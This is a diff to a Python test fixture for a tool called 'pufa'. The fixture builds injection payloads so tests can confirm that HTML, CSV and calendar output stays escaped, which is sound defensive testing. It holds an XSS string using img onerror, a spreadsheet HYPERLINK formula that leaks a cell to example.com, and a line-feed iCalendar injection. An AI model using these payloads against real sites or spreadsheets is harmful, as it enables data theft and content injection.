@@ -7,6 +7,7 @@ dialog or navigates to /pwned/; none must. Each field gets the payload after a l
 
 from __future__ import annotations
 
+import datetime as dt
 import json
 
 # One string, every trick: closing <title>, script, event handlers, attribute breaking with " and ',
@@ -72,8 +73,9 @@ STATUTE_LAW = "中华人民共和国测试法" + SHORT_PAYLOAD
 
 # a spreadsheet would run this agency short name (in `pufa report --format csv`) as a formula
 SPREADSHEET = '=HYPERLINK("https://example.com/?leak="&A1,"点我")' + PAYLOAD
-# a line break in a calendar text that tries to start a property and an event of its own
-CALENDAR_NEWLINE = "说明\r\nX-PWNED:1\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nEND:VEVENT"
+# line breaks in a calendar text that try to start a property and an event of their own (a line
+# feed: `pufa check` refuses a carriage return, and iCalendar readers accept bare line feeds too)
+CALENDAR_NEWLINE = "说明\nX-PWNED:1\nBEGIN:VEVENT\nSUMMARY:pwned\nEND:VEVENT"
 
 # passes the URL check (https?://, no spaces) and tries to leave the link
 WEBSITE = 'https://example.gov.cn/"><img/src=x/onerror=pwn(1)>'
@@ -103,7 +105,9 @@ def agency(short: str, parent: str | None = None) -> str:
 
 
 def explainer(label: str, status: str = "已发布") -> str:
-    comment = (f"comment_opens: 2026-01-01\ncomment_closes: 2099-12-31\n"
+    # open on any build day, within the one-year bound the check puts on comment dates
+    closes = dt.date.today() + dt.timedelta(days=300)
+    comment = (f"comment_opens: 2026-01-01\ncomment_closes: {closes.isoformat()}\n"
                f"comment_how: {y(text('意见方式' + label))}\n") if status == "征求意见" else ""
     return f"""\
 ---
